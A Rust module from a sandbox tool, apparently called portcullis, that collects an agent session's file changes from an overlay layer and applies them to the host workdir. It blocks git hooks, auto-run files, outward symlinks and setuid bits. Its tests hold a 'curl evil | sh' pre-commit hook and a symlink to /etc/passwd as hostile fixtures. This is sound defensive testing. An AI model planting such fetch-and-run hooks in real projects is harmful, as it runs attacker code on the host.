//! The ephemeral workdir's changes: read from the overlay's upper layer when a session ends,
//! saved as a plain tree beside a list, shown by `portcullis diff` and copied back by
//! `portcullis apply`.
//!
//! The upper layer holds every file the agent wrote (whole, after copy-up), a whiteout (a
//! character device 0:0) for every deletion, and an "opaque" mark on a directory that was
//! deleted and made again. Each becomes one [`Change`].

use std::fs;
use std::io;
use std::os::unix::fs::{FileTypeExt, MetadataExt, PermissionsExt};
use std::path::{Component, Path, PathBuf};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use serde::{Deserialize, Serialize};

/// What happened to one path, relative to the workdir.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ChangeKind {
    /// New: not in the workdir when the session ended.
    Added,
    /// Written: in the workdir, with other content or metadata.
    Modified,
    /// Removed in the session.
    Deleted,
}

impl ChangeKind {
    /// One letter, as `git status --short` shows it.
    pub fn letter(self) -> char {
        match self {
            ChangeKind::Added => 'A',
            ChangeKind::Modified => 'M',
            ChangeKind::Deleted => 'D',
        }
    }
}

/// What a path is after the session.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum EntryType {
    /// A regular file.
    File,
    /// A directory.
    Dir,
    /// A symbolic link.
    Symlink,
    /// Nothing (deleted).
    None,
}

/// One changed path.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Change {
    /// The path, relative to the workdir.
    pub path: PathBuf,
    /// What happened.
    pub kind: ChangeKind,
    /// What it is now.
    pub entry: EntryType,
}

const OPAQUE_XATTR: &str = "user.overlay.opaque";

/// Paths in a project that make the host run something later: git hooks and config (hooks,
/// `core.hooksPath`, `core.fsmonitor`, filters), direnv's `.envrc`, editor tasks. `run` mounts
/// the existing ones read-only; `apply` refuses changes to any of them without `--force`.
pub const PROTECTED: &[&str] = &[".git/hooks", ".git/config", ".git/info/attributes", ".envrc", ".vscode/tasks.json"];

/// True when `rel` (relative to the workdir) is or lies under a [`PROTECTED`] path.
pub fn is_protected(rel: &Path) -> bool {
    PROTECTED.iter().any(|p| rel.starts_with(p))
}

/// True when the overlay's upper layer holds nothing: the session changed nothing in the
/// workdir (no file written, made, removed or re-moded; each leaves an entry there). A layer that
/// cannot be read is not called untouched, so that [`collect`] reports the error.
pub fn untouched(upper: &Path) -> bool {
    fs::read_dir(upper).is_ok_and(|mut entries| entries.next().is_none())
}

/// Walks `upper` (the overlay's upper layer), copying what it holds under `saved` (made when
/// there is something to save) and comparing against `lower` (the real workdir). Returns the
/// changes, sorted by path.
pub fn collect(upper: &Path, lower: &Path, saved: &Path) -> io::Result<Vec<Change>> {
    let mut out = Vec::new();
    walk(upper, lower, saved, Path::new(""), &mut out)?;
    out.sort_by(|a, b| a.path.cmp(&b.path));
    Ok(out)
}

fn walk(upper: &Path, lower: &Path, saved: &Path, rel: &Path, out: &mut Vec<Change>) -> io::Result<()> {
    let dir = upper.join(rel);
    for entry in fs::read_dir(&dir)? {
        let entry = entry?;
        let rel_path = rel.join(entry.file_name());
        let meta = entry.metadata()?;
        let in_lower = fs::symlink_metadata(lower.join(&rel_path)).ok();
        let ft = meta.file_type();
        if ft.is_char_device() && meta.rdev() == 0 {
            if in_lower.is_some() {
                out.push(Change { path: rel_path, kind: ChangeKind::Deleted, entry: EntryType::None });
            }
            continue;
        }
        let kind = if in_lower.is_some() { ChangeKind::Modified } else { ChangeKind::Added };
        if ft.is_dir() {
            fs::create_dir_all(saved.join(&rel_path))?;
            let opaque = rustix::fs::getxattr(entry.path().as_path(), OPAQUE_XATTR, &mut [0u8; 4]).is_ok();
            match &in_lower {
                None => out.push(Change { path: rel_path.clone(), kind: ChangeKind::Added, entry: EntryType::Dir }),
                Some(m) if !m.is_dir() => {
                    out.push(Change { path: rel_path.clone(), kind: ChangeKind::Modified, entry: EntryType::Dir })
                }
                Some(_) if opaque => {
                    // Deleted and made again: whatever the workdir has there and the upper lacks is gone.
                    for old in fs::read_dir(lower.join(&rel_path))? {
                        let name = old?.file_name();
                        if fs::symlink_metadata(dir.join(entry.file_name()).join(&name)).is_err() {
                            out.push(Change {
                                path: rel_path.join(name),
                                kind: ChangeKind::Deleted,
                                entry: EntryType::None,
                            });
                        }
                    }
                }
                Some(_) => {}
            }
            walk(upper, lower, saved, &rel_path, out)?;
        } else if ft.is_symlink() {
            made(saved, rel)?;
            let target = fs::read_link(entry.path())?;
            let dest = saved.join(&rel_path);
            let _ = fs::remove_file(&dest);
            std::os::unix::fs::symlink(&target, &dest)?;
            out.push(Change { path: rel_path, kind, entry: EntryType::Symlink });
        } else if ft.is_file() {
            made(saved, rel)?;
            fs::copy(entry.path(), saved.join(&rel_path))?;
            out.push(Change { path: rel_path, kind, entry: EntryType::File });
        }
        // Devices, sockets and fifos the agent made stay in the sandbox.
    }
    Ok(())
}

/// Makes `saved` before the first entry is saved at its top (`rel` empty); deeper entries
/// are saved in directories the walk made. A session that changed nothing writes nothing.
fn made(saved: &Path, rel: &Path) -> io::Result<()> {
    if rel.as_os_str().is_empty() { fs::create_dir_all(saved) } else { Ok(()) }
}

/// Why changes cannot be applied.
#[derive(Debug, thiserror::Error)]
pub enum ApplyError {
    /// A change's path leaves the workdir or passes through a symlink there.
    #[error("`{0}` is not a plain path inside the workdir (it leaves it or passes through a symlink)")]
    Unsafe(PathBuf),
    /// A change would make the host run something later.
    #[error("`{0}` is a git hook, git config or auto-run file; review it and pass --force to apply it")]
    Protected(PathBuf),
    /// A new symlink points outside the workdir.
    #[error("`{path}` is a symlink to `{target}`, outside the workdir; pass --force to apply it anyway")]
    SymlinkOut {
        /// The link.
        path: PathBuf,
        /// Its target.
        target: PathBuf,
    },
    /// A file operation failed.
    #[error("cannot apply `{path}`")]
    Io {
        /// The path.
        path: PathBuf,
        /// The error.
        #[source]
        source: io::Error,
    },
}

/// The paths among `changes` that changed in the workdir itself since `since` (the session's
/// start), which applying would overwrite: a file or symlink whose status changed after then
/// (its ctime; the overlay never writes the workdir, so only something outside the sandbox
/// did), one the session modified that is gone, a path the session added that now exists
/// (except a directory added on both sides), and a directory that applying would remove (the
/// session deleted it, or made a file of it) with anything in it changed. A directory the
/// session kept as one is not compared itself: files made in it on the host change its times,
/// and each of the session's changes in it is compared on its own.
///
/// File times may come from the kernel's coarse clock, up to a tick (1–10 ms) behind a precise
/// reading of `since`, so a write within that tick after `since` can look older. Such a write
/// lands while the sandbox is still being built or its agent is starting, and the session saw
/// the file as it left it (the overlay's lower layer is the live workdir): only an agent that
/// copied the file within that same tick could overwrite it unnoticed.
pub fn changed_since(changes: &[Change], workdir: &Path, since: SystemTime) -> Vec<PathBuf> {
    changes
        .iter()
        .filter(|change| {
            let path = workdir.join(&change.path);
            let Ok(meta) = fs::symlink_metadata(&path) else {
                return change.kind == ChangeKind::Modified;
            };
            let both_dirs = meta.is_dir() && change.entry == EntryType::Dir;
            match change.kind {
                ChangeKind::Added => !both_dirs,
                _ if both_dirs => false,
                _ if meta.is_dir() => tree_changed_since(&path, since),
                _ => ctime(&meta) > since,
            }
        })
        .map(|change| change.path.clone())
        .collect()
}

/// True when `dir` or anything under it changed after `since`, or cannot be read to tell.
fn tree_changed_since(dir: &Path, since: SystemTime) -> bool {
    let Ok(meta) = fs::symlink_metadata(dir) else { return true };
    if ctime(&meta) > since {
        return true;
    }
    if !meta.is_dir() {
        return false;
    }
    let Ok(entries) = fs::read_dir(dir) else { return true };
    entries.into_iter().any(|entry| entry.map_or(true, |e| tree_changed_since(&e.path(), since)))
}

fn ctime(meta: &fs::Metadata) -> SystemTime {
    UNIX_EPOCH + Duration::new(u64::try_from(meta.ctime()).unwrap_or(0), u32::try_from(meta.ctime_nsec()).unwrap_or(0))
}

/// Copies `changes` from `saved` into `workdir`. Refuses, before writing anything, a path that
/// would pass through a symlink in the workdir and (unless `force`) a new symlink pointing out
/// of it.
pub fn apply(changes: &[Change], saved: &Path, workdir: &Path, force: bool) -> Result<usize, ApplyError> {
    for change in changes {
        check_plain(workdir, &change.path)?;
        if is_protected(&change.path) && !force {
            return Err(ApplyError::Protected(change.path.clone()));
        }
        if change.entry == EntryType::Symlink && !force {
            let target = fs::read_link(saved.join(&change.path))
                .map_err(|source| ApplyError::Io { path: change.path.clone(), source })?;
            let base = workdir.join(&change.path).parent().map(Path::to_path_buf).unwrap_or_default();
            if !lexically_inside(&base.join(&target), workdir) {
                return Err(ApplyError::SymlinkOut { path: change.path.clone(), target });
            }
        }
    }
    for change in changes {
        let dest = workdir.join(&change.path);
        let io = |source| ApplyError::Io { path: change.path.clone(), source };
        let meta = fs::symlink_metadata(&dest).ok();
        let remove = |m: &fs::Metadata| if m.is_dir() { fs::remove_dir_all(&dest) } else { fs::remove_file(&dest) };
        match change.entry {
            EntryType::None => {
                if let Some(m) = &meta {
                    remove(m).map_err(io)?;
                }
            }
            EntryType::Dir => {
                if let Some(m) = meta.as_ref().filter(|m| !m.is_dir()) {
                    remove(m).map_err(io)?;
                }
                fs::create_dir_all(&dest).map_err(io)?;
            }
            EntryType::File | EntryType::Symlink => {
                if let Some(m) = meta.as_ref().filter(|m| m.is_dir() || change.entry == EntryType::Symlink) {
                    remove(m).map_err(io)?;
                }
                if let Some(parent) = dest.parent() {
                    fs::create_dir_all(parent).map_err(io)?;
                }
                let from = saved.join(&change.path);
                if change.entry == EntryType::Symlink {
                    std::os::unix::fs::symlink(fs::read_link(&from).map_err(io)?, &dest).map_err(io)?;
                } else {
                    if meta.as_ref().is_some_and(|m| m.file_type().is_symlink()) {
                        fs::remove_file(&dest).map_err(io)?;
                    }
                    fs::copy(&from, &dest).map_err(io)?;
                    // SECURITY: never a setuid or setgid file from a session (the walls refuse
                    // the bits; a degraded session may lack them).
                    let mode = fs::metadata(&dest).map_err(io)?.permissions().mode();
                    if mode & 0o6000 != 0 {
                        fs::set_permissions(&dest, fs::Permissions::from_mode(mode & 0o1777)).map_err(io)?;
                    }
                }
            }
        }
        // Applied by root, a new path takes its directory's owner rather than root's.
        if meta.is_none() && change.entry != EntryType::None && rustix::process::geteuid().is_root() {
            let owner = dest.parent().and_then(|p| fs::metadata(p).ok());
            if let Some(owner) = owner {
                std::os::unix::fs::lchown(&dest, Some(owner.uid()), Some(owner.gid())).map_err(io)?;
            }
        }
    }
    Ok(changes.len())
}

/// Every existing ancestor of `rel` under `workdir` is a real directory, and `rel` has only
/// normal components.
fn check_plain(workdir: &Path, rel: &Path) -> Result<(), ApplyError> {
    if rel.components().any(|c| !matches!(c, Component::Normal(_))) {
        return Err(ApplyError::Unsafe(rel.to_path_buf()));
    }
    let mut at = workdir.to_path_buf();
    let parts: Vec<_> = rel.components().collect();
    for part in parts.iter().take(parts.len().saturating_sub(1)) {
        at.push(part);
        match fs::symlink_metadata(&at) {
            Ok(m) if m.file_type().is_symlink() => return Err(ApplyError::Unsafe(rel.to_path_buf())),
            _ => {}
        }
    }
    Ok(())
}

fn lexically_inside(path: &Path, root: &Path) -> bool {
    let mut out = PathBuf::new();
    for c in path.components() {
        match c {
            Component::ParentDir => {
                out.pop();
            }
            Component::CurDir => {}
            other => out.push(other),
        }
    }
    out.starts_with(root)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tmp(name: &str) -> PathBuf {
        let dir = std::env::temp_dir().join(format!("portcullis-changes-{name}-{}", std::process::id()));
        let _ = fs::remove_dir_all(&dir);
        fs::create_dir_all(&dir).unwrap();
        dir
    }

    #[test]
    fn changes_made_in_the_workdir_after_the_start_are_found_where_apply_would_overwrite_them() {
        let work = tmp("since");
        for d in ["kept", "gone", "touched", "both"] {
            fs::create_dir_all(work.join(d)).unwrap();
        }
        fs::write(work.join("kept/old.txt"), "old").unwrap();
        fs::write(work.join("gone/old.txt"), "old").unwrap();
        fs::write(work.join("touched/deep.txt"), "old").unwrap();
        fs::write(work.join("edited.txt"), "old").unwrap();
        fs::write(work.join("quiet.txt"), "old").unwrap();
        // File times lag a precise clock by up to a tick.
        std::thread::sleep(std::time::Duration::from_millis(20));
        let since = SystemTime::now();
        std::thread::sleep(std::time::Duration::from_millis(20));
        // After the start, on the host: a file edited in place, one deep in a directory the
        // session deleted, one made in a directory the session kept, and a file where the
        // session added one.
        fs::write(work.join("edited.txt"), "host").unwrap();
        fs::write(work.join("touched/deep.txt"), "host").unwrap();
        fs::write(work.join("kept/new.txt"), "host").unwrap();
        fs::write(work.join("added.txt"), "host").unwrap();
        let change = |path: &str, kind, entry| Change { path: PathBuf::from(path), kind, entry };
        let changes = [
            change("edited.txt", ChangeKind::Modified, EntryType::File),
            change("quiet.txt", ChangeKind::Modified, EntryType::File),
            change("touched", ChangeKind::Deleted, EntryType::None),
            change("gone", ChangeKind::Deleted, EntryType::None),
            change("kept", ChangeKind::Modified, EntryType::Dir),
            change("kept/old.txt", ChangeKind::Modified, EntryType::File),
            change("added.txt", ChangeKind::Added, EntryType::File),
            change("both", ChangeKind::Added, EntryType::Dir),
            change("vanished.txt", ChangeKind::Modified, EntryType::File),
            change("absent.txt", ChangeKind::Deleted, EntryType::None),
        ];
        let found: Vec<String> =
            changed_since(&changes, &work, since).iter().map(|p| p.display().to_string()).collect();
        assert_eq!(found, ["edited.txt", "touched", "added.txt", "vanished.txt"]);
    }

    #[test]
    fn upper_layer_files_become_changes_and_apply_copies_them_back() {
        let root = tmp("apply");
        let (upper, lower, saved) = (root.join("upper"), root.join("lower"), root.join("saved"));
        fs::create_dir_all(upper.join("src")).unwrap();
        fs::create_dir_all(lower.join("src")).unwrap();
        fs::write(lower.join("src/main.rs"), "old").unwrap();
        fs::write(upper.join("src/main.rs"), "new").unwrap();
        fs::write(upper.join("notes.txt"), "hello").unwrap();
        std::os::unix::fs::symlink("notes.txt", upper.join("link")).unwrap();
        // A setuid file (the walls refuse the bit; a degraded session may not): applied without it.
        fs::write(lower.join("src/tool"), "old").unwrap();
        fs::write(upper.join("src/tool"), "#!/bin/sh\n").unwrap();
        fs::set_permissions(upper.join("src/tool"), fs::Permissions::from_mode(0o6755)).unwrap();
        let changes = collect(&upper, &lower, &saved).unwrap();
        let summary: Vec<(String, ChangeKind)> =
            changes.iter().map(|c| (c.path.display().to_string(), c.kind)).collect();
        assert_eq!(
            summary,
            [
                ("link".into(), ChangeKind::Added),
                ("notes.txt".into(), ChangeKind::Added),
                ("src/main.rs".into(), ChangeKind::Modified),
                ("src/tool".into(), ChangeKind::Modified)
            ]
        );
        // The real workdir is untouched until apply.
        assert_eq!(fs::read_to_string(lower.join("src/main.rs")).unwrap(), "old");
        let as_root = rustix::process::geteuid().is_root();
        if as_root {
            std::os::unix::fs::chown(&lower, Some(4242), Some(4242)).unwrap();
        }
        assert_eq!(apply(&changes, &saved, &lower, false).unwrap(), 4);
        assert_eq!(fs::read_to_string(lower.join("src/main.rs")).unwrap(), "new");
        assert_eq!(fs::metadata(lower.join("src/tool")).unwrap().permissions().mode() & 0o7777, 0o755);
        if as_root {
            // A new file takes its directory's owner, not the applier's.
            assert_eq!(fs::metadata(lower.join("notes.txt")).unwrap().uid(), 4242);
        }
        assert_eq!(fs::read_to_string(lower.join("link")).unwrap(), "hello");
        fs::remove_dir_all(&root).unwrap();
    }

    #[test]
    fn nothing_changed_saves_nothing_and_a_top_level_file_alone_is_saved() {
        let root = tmp("lazy");
        let (upper, lower, saved) = (root.join("upper"), root.join("lower"), root.join("saved"));
        fs::create_dir_all(&upper).unwrap();
        fs::create_dir_all(&lower).unwrap();
        assert!(collect(&upper, &lower, &saved).unwrap().is_empty());
        assert!(!saved.exists(), "a session that changed nothing writes nothing");
        fs::write(upper.join("only.txt"), "x").unwrap();
        let changes = collect(&upper, &lower, &saved).unwrap();
        assert_eq!(changes.len(), 1);
        assert_eq!(fs::read_to_string(saved.join("only.txt")).unwrap(), "x");
        fs::remove_dir_all(&root).unwrap();
    }

    #[test]
    fn apply_refuses_git_hooks_and_config_without_force() {
        let root = tmp("protected");
        let (saved, work) = (root.join("saved"), root.join("work"));
        fs::create_dir_all(saved.join(".git/hooks")).unwrap();
        fs::create_dir_all(&work).unwrap();
        fs::write(saved.join(".git/hooks/pre-commit"), "curl evil | sh").unwrap();
        let hook = Change { path: ".git/hooks/pre-commit".into(), kind: ChangeKind::Added, entry: EntryType::File };
        assert!(matches!(apply(std::slice::from_ref(&hook), &saved, &work, false), Err(ApplyError::Protected(_))));
        assert!(!work.join(".git/hooks/pre-commit").exists());
        assert_eq!(apply(&[hook], &saved, &work, true).unwrap(), 1);
        assert!(is_protected(Path::new(".git/config")) && !is_protected(Path::new(".git/configs/x")));
        assert!(!is_protected(Path::new("src/.git/hooks")));
        fs::remove_dir_all(&root).unwrap();
    }

    #[test]
    fn apply_refuses_symlinks_out_of_the_workdir_and_paths_through_symlinks() {
        let root = tmp("refuse");
        let (saved, work) = (root.join("saved"), root.join("work"));
        fs::create_dir_all(&saved).unwrap();
        fs::create_dir_all(&work).unwrap();
        std::os::unix::fs::symlink("/etc/passwd", saved.join("evil")).unwrap();
        let link = Change { path: "evil".into(), kind: ChangeKind::Added, entry: EntryType::Symlink };
        assert!(matches!(apply(&[link], &saved, &work, false), Err(ApplyError::SymlinkOut { .. })));
        assert!(fs::symlink_metadata(work.join("evil")).is_err());
        std::os::unix::fs::symlink("/tmp", work.join("d")).unwrap();
        let through = Change { path: "d/x".into(), kind: ChangeKind::Added, entry: EntryType::File };
        assert!(matches!(apply(&[through], &saved, &work, false), Err(ApplyError::Unsafe(_))));
        fs::remove_dir_all(&root).unwrap();
    }
}
